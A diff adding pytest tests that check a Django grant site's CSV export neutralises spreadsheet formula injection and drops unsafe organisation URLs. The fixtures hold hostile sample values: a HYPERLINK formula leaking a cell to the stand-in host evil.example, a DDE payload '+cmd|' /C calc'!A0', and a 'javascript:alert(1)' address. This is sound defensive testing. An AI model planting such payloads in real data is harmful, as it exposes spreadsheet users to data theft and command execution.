@@ -13,6 +13,8 @@ from django.utils import timezone, translation
 import jsonschema
 import pytest
 
+from funding.open_data import spreadsheet_safe
+from projects.models import Organisation
 from tests.core.helpers import get_html, url_in
 from tests.factories import (
     GrantFactory,
@@ -395,3 +397,74 @@ def test_csv_downloads_as_an_attachment_named_for_its_language(client, funding_s
     assert (
         response["Content-Disposition"] == f'attachment; filename="pirsote-grants-{language}.csv"'
     )
+
+
+# Spreadsheet formulas (CSV injection): cells a spreadsheet would run are shown as text.
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        (
+            '=HYPERLINK("https://evil.example/?"&A1,"Avaa")',
+            '\'=HYPERLINK("https://evil.example/?"&A1,"Avaa")',
+        ),
+        ("+358 40 000 0000", "'+358 40 000 0000"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\rtext", "'\rtext"),
+        ("   =1+1", "'   =1+1"),
+        ("\n@SUM(1)", "'\n@SUM(1)"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("-1500.50", "-1500.50"),
+        ("+12", "+12"),
+        ("5921081", "5921081"),
+        ("Avustus -ohjelmalle = 5 M€", "Avustus -ohjelmalle = 5 M€"),
+        ("2020-06-01", "2020-06-01"),
+        ("", ""),
+    ],
+)
+def test_cells_a_spreadsheet_would_run_get_a_leading_quote_and_numbers_stay(cell, expected):
+    assert spreadsheet_safe(cell) == expected
+
+
+def test_csv_neutralises_formulas_and_the_json_keeps_the_texts_exact(client, funding_site):
+    ministry = funding_site.organisations.ministry
+    ministry.name_fi = "+cmd|' /C calc'!A0"
+    ministry.save()
+    grant = GrantFactory(
+        project=funding_site.pirsote,
+        funder=ministry,
+        recipient=funding_site.organisations.council,
+        identifier="360G-pirsote-kaava",
+        title_fi='=HYPERLINK("https://evil.example/?leak="&A1,"Avaa")',
+        description_fi="\t@SUM(1+1)",
+        decision_reference="-VN/1/2020",
+        amount_awarded=Decimal("1500.50"),
+    )
+
+    rows = {row["Identifier"]: row for row in get_csv(client, "fi")}
+    row = rows[grant.identifier]
+    assert row["Title"] == "'" + grant.title_fi
+    assert row["Description"] == "'\t@SUM(1+1)"
+    assert row["Funding Org:Name"] == "'+cmd|' /C calc'!A0"
+    assert row["Amount Awarded"] == "1500.50"  # numbers stay numbers
+    for other in rows.values():
+        for value in other.values():
+            assert not value.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), value
+    exact = {g["id"]: g for g in get_json(client, "fi")}[grant.identifier]
+    assert exact["title"] == grant.title_fi
+    assert exact["description"] == "\t@SUM(1+1)"
+    assert exact["fundingOrganization"][0]["name"] == "+cmd|' /C calc'!A0"
+
+
+def test_an_unsafe_organisation_address_is_left_out_of_the_open_data(client, funding_site):
+    council = funding_site.organisations.council
+    Organisation.objects.filter(pk=council.pk).update(website="javascript:alert(1)")
+
+    for grant in get_json(client, "en"):
+        assert "url" not in grant["recipientOrganization"][0]
+    for row in get_csv(client, "en"):
+        assert row["Recipient Org:Web Address"] == ""
